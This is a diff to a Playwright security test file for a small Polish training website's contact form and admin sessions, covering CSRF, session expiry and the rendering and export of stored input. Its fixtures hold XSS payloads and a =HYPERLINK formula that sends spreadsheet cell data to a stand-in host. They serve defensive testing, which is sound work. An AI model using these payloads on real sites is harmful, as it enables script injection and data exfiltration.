@@ -7,7 +7,7 @@ import { expect, test } from "@playwright/test";
 import { TEST_DATABASE_FILE } from "../../playwright.config";
 import { parseCsv } from "../support/parse-csv";
 import { adminRoutePaths, sessionKey, signIn, signInByRequest, SIGN_IN_PATH, withDatabase } from "./admin";
-import { formTokens, humanPause, site, startTestServer, TEST_ADMIN, TEST_SITE_URL, waitForHydration } from "./site";
+import { formTokens, pastTheTimeTrap, site, startTestServer, TEST_ADMIN, TEST_SITE_URL, waitForHydration } from "./site";
 
 const STATE_CHANGING = ["POST", "PUT", "PATCH", "DELETE"];
 const WRONG_PAIR = "Nieprawidłowy e-mail lub hasło.";
@@ -106,8 +106,7 @@ test("a session ends after 8 hours idle and 7 days after sign-in", async ({ requ
 });
 
 test("a request from another site changes nothing, even with the trainer's session", async ({ request }) => {
-  const tokens = await formTokens(request);
-  await humanPause();
+  const tokens = pastTheTimeTrap(await formTokens(request));
   const name = `Ofiara CSRF ${Date.now()}`;
   expect((await request.post("/kontakt", { form: { name, email: "csrf@example.com", message: "Proszę o kontakt w sprawie treningów.", ...tokens }, maxRedirects: 0 })).status()).toBe(303);
   const id = withDatabase(TEST_DATABASE_FILE, (db) => (db.prepare("select id from enquiries where name = ?").get(name) as { id: number }).id);
@@ -131,8 +130,7 @@ test("a request from another site changes nothing, even with the trainer's sessi
 });
 
 test("a stored <script> and =HYPERLINK(…) are shown as text and exported inert", async ({ page, request }) => {
-  const tokens = await formTokens(request);
-  await humanPause();
+  const tokens = pastTheTimeTrap(await formTokens(request));
   const name = `=HYPERLINK("http://zly.example/?d="&A1;"Kliknij ${Date.now()}")`;
   const message = `<script>window.__xss = 1</script><img src="x" onerror="window.__xss = 2"> @SUM(1+1) dzień dobry`;
   expect((await request.post("/kontakt", { form: { name, email: "xss@example.com", message, ...tokens }, maxRedirects: 0 })).status()).toBe(303);
